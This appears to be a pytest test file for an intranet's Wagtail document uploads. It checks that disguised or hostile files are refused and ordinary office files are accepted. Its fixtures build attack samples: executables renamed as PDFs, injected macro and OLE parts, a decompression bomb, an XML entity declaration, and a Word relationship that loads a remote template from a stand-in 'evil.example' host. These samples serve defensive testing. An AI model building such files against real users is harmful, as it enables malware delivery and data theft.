"""Files that editors hand over: what members download is what its name says and runs nothing (security.md 5.5)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document as WordDocument
from openpyxl import Workbook
from wagtail.documents.models import Document

from intranet.files import uploads
from tests.personas import PersonaClient

pytestmark = [pytest.mark.django_db, pytest.mark.rule("W8")]


def word() -> bytes:
    made, out = WordDocument(), io.BytesIO()
    made.add_paragraph("words")
    made.save(out)
    return out.getvalue()


def excel() -> bytes:
    made, out = Workbook(), io.BytesIO()
    made.save(out)
    return out.getvalue()


def slides(entries: int = 3) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("ppt/presentation.xml", "<p/>")
        for number in range(entries):
            package.writestr(f"ppt/slides/slide{number}.xml", "<s/>")
        package.writestr("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", excel())  # the numbers of a chart
    return out.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for entry in source.namelist():
            package.writestr(entry, source.read(entry))
        package.writestr(name, data)
    return out.getvalue()


TEMPLATE = (
    b'<Relationships><Relationship Id="a" Type="x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def handed_over(editor: PersonaClient, name: str, content: bytes) -> str:
    sent = {"title": "A file", "file": SimpleUploadedFile(name, content), "collection": "1"}
    return editor.post(reverse("wagtaildocs:add"), sent).content.decode()


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("run.pdf", lambda: b"MZ\x90\x00 a program", "its content is not what its name says"),
        ("page.pdf", lambda: b"<html><script>1</script>", "its content is not what its name says"),
        ("list.csv", lambda: b"MZ\x00\x01", "its content is not what its name says"),
        ("old.docx", lambda: b"\xd0\xcf\x11\xe0 encrypted or old", "damaged or not a Word document"),
        ("sheet.docx", excel, "damaged or not a Word document"),
        ("deck.pptx", word, "not a presentation"),
        ("macro.docx", lambda: with_part(word(), "word/vbaProject.bin", b"x"), "macros or embedded objects"),
        ("object.pptx", lambda: with_part(slides(), "ppt/embeddings/oleObject1.bin", b"x"), "macros"),
        (
            "loads.docx",
            lambda: with_part(word(), "word/_rels/settings.xml.rels", TEMPLATE),
            "loads something from elsewhere",
        ),
        (
            "bomb.xlsx",
            lambda: with_part(excel(), "xl/media/a.png", b"\0" * (41 << 20)),
            "unpacks to far more",
        ),
        (
            "entity.docx",
            lambda: with_part(word(), "word/x.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]>"),
            "declaration",
        ),
    ],
)
def test_a_hostile_file_is_refused_with_a_sentence(
    editor: PersonaClient, name: str, content: Callable[[], bytes], said: str
) -> None:
    assert said in handed_over(editor, name, content())
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", lambda: b"%PDF-1.4 words"),
        ("a.docx", word),
        ("a.xlsx", excel),
        ("a.pptx", lambda: slides(500)),
        ("a.txt", lambda: "كلمات".encode()),
    ],
)
def test_material_of_the_field_is_taken(
    editor: PersonaClient, name: str, content: Callable[[], bytes]
) -> None:
    handed_over(editor, name, content())
    assert Document.objects.get().file_size > 0


def test_the_ways_to_hand_over_many_and_to_replace_look_into_the_file_too(editor: PersonaClient) -> None:
    handed_over(editor, "a.pdf", b"%PDF-1.4 words")
    path = reverse("wagtaildocs:edit", args=[Document.objects.get().pk])
    bad = {"title": "x", "file": SimpleUploadedFile("a.pdf", b"MZ program"), "collection": "1"}
    assert "not what its name says" in editor.post(path, bad).content.decode()
    assert Document.objects.get().file.open().read().startswith(b"%PDF-")
    many = reverse("wagtaildocs:add_multiple")
    sent = {"title": "y", "files[]": SimpleUploadedFile("b.pdf", b"MZ program"), "collection": "1"}
    answer = editor.post(many, sent, headers={"x-requested-with": "XMLHttpRequest"}).content.decode()
    assert "not what its name says" in answer
    chooser = reverse("wagtaildocs_chooser:create")
    editor.post(
        chooser,
        {
            "document-chooser-upload-title": "z",
            "document-chooser-upload-file": SimpleUploadedFile("c.pdf", b"MZ program"),
            "document-chooser-upload-collection": "1",
        },
    )
    assert Document.objects.count() == 1


def test_material_larger_than_forms_take_is_taken_up_to_the_limit_of_the_library(
    editor: PersonaClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    large = b"%PDF-1.4 " + bytes(13 << 20)
    handed_over(editor, "video-guide.pdf", large)
    assert Document.objects.get().file_size == len(large)
    monkeypatch.setattr(uploads, "LARGEST_OF_LIBRARY", 12 << 20)
    assert "larger than 60 MB" in handed_over(editor, "larger.pdf", large)
    assert Document.objects.count() == 1
    sent = {"title": "A poster", "file": SimpleUploadedFile("poster.png", large), "collection": "1"}
    assert "larger than 10 MB" in editor.post(reverse("wagtailimages:add"), sent).content.decode()
